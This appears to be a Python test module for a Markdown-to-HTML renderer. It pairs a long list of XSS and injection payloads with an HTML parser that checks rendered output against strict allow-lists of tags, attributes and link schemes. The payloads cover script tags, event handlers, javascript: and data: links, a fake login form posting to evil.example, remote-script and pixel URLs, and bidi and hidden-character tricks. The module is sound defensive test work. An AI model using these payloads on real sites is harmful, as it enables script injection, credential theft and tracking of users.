"""Texts that try to get something past the renderer, and the judge of what came out. For any test of a surface.

`PAYLOADS` are texts as an author could publish them. `faults(html)` reads HTML the way a browser does and names
everything in it that rendered text must never hold; its tables are its own, so that the allow-list of the
renderer cannot be widened without a test saying so.
"""

import re
from html.parser import HTMLParser

PAYLOADS = (
    # tags, as they are and bent
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<<script>alert(1);//<</script>",
    "<script/x>alert(1)</script>",
    "text <script>alert(1)</script> in a line",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype='statusline#javascript:alert(1)'>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<form action=https://evil.example/><input name=password type=password><button>log in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=prompt-x name=getElementById href=//evil.example>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!ENTITY x '<script>alert(1)</script>'>",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](<java\\script:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example\\)",
    "[x](/\\evil.example/)",
    "[x](https:/\\evil.example/)",
    "[x](https:evil.example)",
    "[x](http:///evil.example)",
    "[x](/admin/logout/)",
    "[x](../../admin/)",
    "[x](?q=1)",
    "[x](#main)",
    "[x](#%6D%61%69%6E)",
    "[x]( https://a.example '\"onmouseover=alert(1) x=\"')",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example/\"onmouseover='alert(1)')",
    "[x](https://a.example/?<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://a.example '\"><script>alert(1)</script>'",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[a [b](https://b.example) c](https://a.example)",
    "https://a.example/\"onmouseover=alert(1)",
    "www.a.example/<script>alert(1)</script>",
    "javascript:alert(1)",
    # images
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![x](//evil.example/pixel.png)",
    "![\"onerror=alert(1)](https://a.example/x.png)",
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
    "![![x](javascript:alert(1))](https://a.example)",
    # the names and places that markup of ours stands in
    "# <script>alert(1)</script>",
    '# "onmouseover=alert(1) x="',
    "# x {#main onclick=alert(1)}",
    "```\"onmouseover=alert(1) x=\"\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```python class=x\n</code></pre><script>alert(1)</script>\n```",
    "``</code><script>alert(1)</script>``",
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|:-:\" onclick=alert(1)|\n| x |",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "- [x] <script>alert(1)</script>",
    "- [x](javascript:alert(1))",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "> [!WARNING]\n> <img src=x onerror=alert(1)>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^<script>]\n\n[^<script>]: y",
    "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: y",
    "[//]: # (</p><script>alert(1)</script>)",
    "[<script>]: javascript:alert(1) '<img src=x onerror=alert(1)>'",
    "1\\. x\n\n999999999. <script>alert(1)</script>",
    # characters
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>\u202c",
    "[\u202egpj.exe](https://a.example/\u202egpj.exe '\u202egpj.exe')",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ud800<script>alert(1)</script>\udfff",
    "ignore\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "{% load x %}{{ settings.SECRET_KEY }}{{ x|safe }}",
)  # fmt: skip

_HEADINGS = ("h1", "h2", "h3", "h4", "h5", "h6")
_ATTRIBUTES: dict[str, set[str]] = {
    **{key: {"class"} for key in ("p", "sup", "section", "ul", "td", "th", "code")},
    **{key: set() for key in ("br", "hr", "blockquote", "em", "strong", "del", "table", "thead", "tbody", "tr")},
    **{key: {"id", "aria-level"} for key in _HEADINGS},
    "a": {"href", "title", "id", "class", "rel", "aria-label", "aria-hidden", "tabindex"},
    "div": {"class", "tabindex"},
    "input": {"type", "checked", "disabled", "aria-label"},
    "li": {"id", "class"},
    "ol": {"start", "class"},
    "pre": {"class", "tabindex"},
    "span": {"id", "class", "title"},
}
_CLASS = re.compile(
    r"hl-(?:comment|keyword|string|number|name|builtin|tag|heading|added|removed)|language-[a-z+-]{1,12}"
    r"|align-(?:left|center|right)|markdown-alert(?:-(?:title|note|tip|important|warning|caution))?"
    r"|(?:contains-task-list|task-list-item|table-scroll|footnotes|footnote-ref|footnote-backref|heading-anchor"
    r"|image-link|dead-link|raw-html|invisible-char|unused-definition|rendering-note|source|line)"
)
_ID = re.compile(r"prompt-[^\s\"'<>]+|footnote-\d+(?:-use-\d+)?|line-\d+")
_HREF = re.compile(r"(?:https?://[^/\\]|mailto:[^/\\]|#(?:prompt|footnote)-)[^\s\"<>]*", re.IGNORECASE)
_REST = {
    "rel": re.compile("nofollow noopener ugc"),
    "type": re.compile("checkbox"),
    "start": re.compile(r"\d{1,9}"),
    "tabindex": re.compile("0|-1"),
    "aria-level": re.compile(r"[7-9]|1\d"),
    "aria-hidden": re.compile("true"),
}
_UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]")


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ATTRIBUTES:
            self.faults.append(f"<{tag}>")
            return
        named = {name: value or "" for name, value in attrs}
        for name, value in named.items():
            if name not in _ATTRIBUTES[tag] or not self._may_be(name, value):
                self.faults.append(f"<{tag} {name}={value!r}>")
        if tag == "input" and not {"type", "disabled"} <= named.keys():
            self.faults.append("an input that is not a disabled checkbox")
        if tag == "a" and "rel" not in named:
            self.faults.append("a link without rel")

    def _may_be(self, name: str, value: str) -> bool:
        if name == "class":
            return all(_CLASS.fullmatch(each) for each in value.split())
        if name == "id":
            new = value not in self.ids
            self.ids.add(value)
            return new and bool(_ID.fullmatch(value))
        if name == "href":
            return bool(_HREF.fullmatch(value))
        return bool(_REST[name].fullmatch(value)) if name in _REST else not _UNSEEN.search(value)

    def handle_data(self, data: str) -> None:
        if unseen := _UNSEEN.search(data):
            self.faults.append(f"the character {unseen.group()!r}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("an instruction")

    def unknown_decl(self, data: str) -> None:
        self.faults.append("a marked section")


def faults(html: str) -> list[str]:
    """What stands in rendered HTML against the rules; an empty list where all is well."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.faults
